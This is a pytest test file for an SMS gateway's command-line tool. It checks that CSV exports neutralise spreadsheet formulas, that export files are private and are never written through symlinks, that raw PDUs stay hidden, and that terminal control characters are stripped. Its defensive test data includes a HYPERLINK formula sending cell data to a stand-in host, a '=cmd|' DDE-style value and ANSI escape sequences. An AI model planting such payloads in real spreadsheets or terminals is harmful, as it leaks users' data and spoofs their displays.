"""Privacy leftovers (P12): spreadsheet-safe CSV, private export files, raw PDUs hidden,
upstream strings stripped of terminal control characters. Real SQLite file, the real CLI."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from sms1708.cli import main
from sms1708.core.cells import FORMULA_STARTS, printable, spreadsheet_safe
from sms1708.core.intake import IntakeRules
from sms1708.core.pdu import decode_deliver, encode_deliver
from sms1708.core.policy import Decision
from sms1708.core.states import State
from sms1708.store.store import Attempt, IncomingPart, Store

from .conftest import write_config

WIB = timezone(timedelta(hours=7))
ESC = "\x1b"
HOSTILE = [
    'LAPOR =HYPERLINK("http://x.example/?"&A1,"klik")',
    "=1+2 di desa Tanjung",
    "+62 sudah lapor",
    "-5 derajat",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]


@pytest.fixture
def cfg(tmp_path: Path) -> Path:
    s = Store.open(tmp_path / "db.sqlite")
    for i, text in enumerate(["LAPOR jalan rusak di desa Tanjung", *HOSTILE[1:]]):
        [p] = encode_deliver(f"+62812345678{i:02d}", text, datetime(2026, 11, 1, 8, i, tzinfo=WIB))
        s.intake.ingest(
            "modem0",
            [IncomingPart("SM", i + 1, p, decode_deliver(p))],
            now=time.time(),
            rules=IntakeRules(),
        )
    s.outbox.claim(now=time.time(), lease=60, limit=1)
    s.outbox.record(
        [
            Attempt(
                1,
                Decision(State.DELIVERED, None, "delivered"),
                outcome="delivered",
                ended_at=time.time(),
                http_status=201,
                tracking_id=f"=cmd|{ESC}[2J{ESC}]0;pwned\x07",
            )
        ]
    )
    s.conn.execute(
        "UPDATE messages SET upstream_status = ? WHERE id = 1", (f"Selesai{ESC}[31m merah",)
    )
    s.conn.execute(
        "UPDATE replies SET reason = ? WHERE message_id = 1", (f"upstream said {ESC}[8m hidden",)
    )
    s.close()
    return write_config(tmp_path / "c.toml", {"store": {"path": str(tmp_path / "db.sqlite")}})


def run(cfg: Path, *args: str) -> Any:
    return CliRunner().invoke(main, ["--config", str(cfg), *args], catch_exceptions=False)


# ------------------------------------------------------------------ CSV cells


@given(st.text())
def test_no_cell_a_spreadsheet_would_run_is_left_as_it_is(text: str) -> None:
    out = spreadsheet_safe(text)
    assert isinstance(out, str)
    assert not out.startswith(FORMULA_STARTS)
    assert out in (text, "'" + text)
    assert spreadsheet_safe(42) == 42


def test_csv_export_neutralises_formulas_and_keeps_senders_as_text(cfg: Path) -> None:
    r = run(cfg, "export", "--show-numbers")
    rows = list(csv.DictReader(io.StringIO(r.output)))
    assert all(not v.startswith(FORMULA_STARTS) for row in rows for v in row.values())
    texts = [row["text"] for row in rows]
    for quoted in ("'=1+2 di desa Tanjung", "'-5 derajat", "'@SUM(A1:A9)", "'+62 sudah lapor"):
        assert quoted in texts, texts
    assert rows[0]["sender"] == "'+6281234567800"  # quoted: text, not a formula or 6.28E+12
    assert rows[0]["tracking_id"].startswith("'=cmd|")
    masked = list(csv.DictReader(io.StringIO(run(cfg, "export").output)))
    assert masked[0]["sender"] == "'+62812******00"


# ------------------------------------------------------------------ export files


def test_export_file_is_private_and_never_overwritten_without_force(
    cfg: Path, tmp_path: Path
) -> None:
    dest = tmp_path / "out.csv"
    assert run(cfg, "export", "-o", str(dest)).exit_code == 0
    assert oct(dest.stat().st_mode & 0o777) == "0o600"
    first = dest.read_text(encoding="utf-8")
    assert first.startswith("id,key,")
    r = run(cfg, "export", "--format", "json", "-o", str(dest))
    assert r.exit_code == 1 and "exists; add --force" in r.output
    assert dest.read_text(encoding="utf-8") == first
    dest.chmod(0o644)
    assert run(cfg, "export", "--format", "json", "-o", str(dest), "--force").exit_code == 0
    assert json.loads(dest.read_text(encoding="utf-8"))[0]["id"] == 1
    assert oct(dest.stat().st_mode & 0o777) == "0o600"


def test_export_never_writes_through_a_symlink(cfg: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    link = tmp_path / "link.csv"
    link.symlink_to(victim)
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "nowhere.csv")
    for target in (link, dangling):
        for force in ([], ["--force"]):
            r = run(cfg, "export", "-o", str(target), *force)
            assert r.exit_code == 1 and "symbolic link" in r.output
    assert victim.read_text() == "keep me"
    assert not (tmp_path / "nowhere.csv").exists()


# ------------------------------------------------------------------ queue show


def test_queue_show_hides_raw_pdus_unless_show_numbers(cfg: Path) -> None:
    s = Store.open(Path(str(cfg)).parent / "db.sqlite")
    m = s.queries.message(2)
    s.close()
    assert m is not None
    pdu = m["parts"][0]["pdu"]
    for args in ([], ["--json"]):
        out = run(cfg, "queue", "show", "2", *args).output
        assert pdu not in out and "hidden" in out
        assert "2181234567" not in out  # the sender's digits in semi-octets
    assert pdu in run(cfg, "queue", "show", "2", "--show-numbers").output
    shown = json.loads(run(cfg, "queue", "show", "2", "--json", "--show-numbers").output)
    assert shown["parts"][0]["pdu"] == pdu


# ------------------------------------------------------------------ upstream strings


def test_upstream_strings_lose_terminal_control_characters(cfg: Path) -> None:
    out = run(cfg, "queue", "show", "1").output
    assert ESC not in out and "\x07" not in out
    assert "=cmd|[2J]0;pwned" in out and "Selesai[31m merah" in out and "[8m hidden" in out
    listed = run(cfg, "queue", "list").output
    assert ESC not in listed
    # JSON escapes them: a program reading it gets the upstream's bytes
    data = json.loads(run(cfg, "queue", "show", "1", "--json").output)
    assert ESC in data["tracking_id"]


@given(st.text())
def test_printable_leaves_no_control_character(text: str) -> None:
    out = printable(text)
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 for c in out)
    assert "\u202e" not in out  # no right-to-left override either


def test_printable_keeps_ordinary_text_and_emoji() -> None:
    assert printable("Laporan 12: Diproses 👩‍🚒 ✓") == "Laporan 12: Diproses 👩‍🚒 ✓"
    assert printable("baris\nkedua\tx") == "baris kedua x"
